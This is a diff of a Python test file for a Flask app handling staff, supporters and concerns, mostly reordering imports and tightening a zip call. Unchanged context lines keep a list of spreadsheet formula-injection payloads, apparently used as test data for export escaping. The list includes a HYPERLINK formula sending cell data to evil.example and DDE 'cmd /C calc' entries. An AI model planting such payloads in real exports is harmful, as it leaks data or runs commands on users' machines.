@@ -18,12 +18,12 @@ import zlib
 from datetime import date, timedelta
 
 import pytest
-from itsdangerous import URLSafeTimedSerializer
 from flask.sessions import TaggedJSONSerializer
+from itsdangerous import URLSafeTimedSerializer
 from sqlalchemy import func, select
 
 from app import create_app
-from app.accounts.models import LoginLink, StaffUser
+from app.accounts.models import StaffUser
 from app.accounts.services import update_staff
 from app.concerns import services as concerns
 from app.concerns.models import Concern, ConcernCategory
@@ -32,8 +32,19 @@ from app.extensions import db
 from app.outbox.models import OutboxMessage
 from app.secret import SecretKeyError
 from app.smallcounts import SMALL_COUNT
-from tests.conftest import (PASSWORD, ROOT, csrf, district, login_staff, login_supporter,
-                            make_supporter, page_text, post, sign_in_link)
+from app.supporters.models import LoginLink
+from tests.conftest import (
+    PASSWORD,
+    ROOT,
+    csrf,
+    district,
+    login_staff,
+    login_supporter,
+    make_supporter,
+    page_text,
+    post,
+    sign_in_link,
+)
 
 FORMULAS = ['=HYPERLINK("http://evil.example/?"&C2,"詳しくはこちら")', "@SUM(1+1)*cmd|' /C calc'!A0",
             "-2+3+cmd|' /C calc'!A0", "+81 90 1234 5678", "\t=1+1", "\r=1+1", "＝1+1"]
@@ -305,8 +316,8 @@ def test_a_sent_link_is_erased_from_the_outbox(client, geography, mailbox):
 # --- 8. no-store ---------------------------------------------------------------------------------
 
 def test_nothing_signed_in_is_kept_by_a_cache(app, client, coordinator, geography, mailbox, tmp_path):
-    from tests.test_trainings import make_session, person
     from app.trainings import services as trainings
+    from tests.test_trainings import make_session, person
     app.config["HOTNET_MAILCATCHER_DIR"] = str(tmp_path)
     supporter = make_supporter(email="me@example.jp", delivery="email")
     concern = concerns.submit_concern({"category_id": category().id, "body": "気になる",
@@ -430,7 +441,7 @@ def test_no_hidden_count_can_be_derived_from_the_printed_figures(geography, monk
 
     # Try to work out each hidden cell from every printed figure: both 1 and 2 must remain
     # possible for each of them.
-    solutions = [dict(zip(hidden, values))
+    solutions = [dict(zip(hidden, values, strict=True))
                  for values in itertools.product(range(1, SMALL_COUNT), repeat=len(hidden))]
     solutions = [guess for guess in solutions if consistent(guess)]
     for key in hidden:
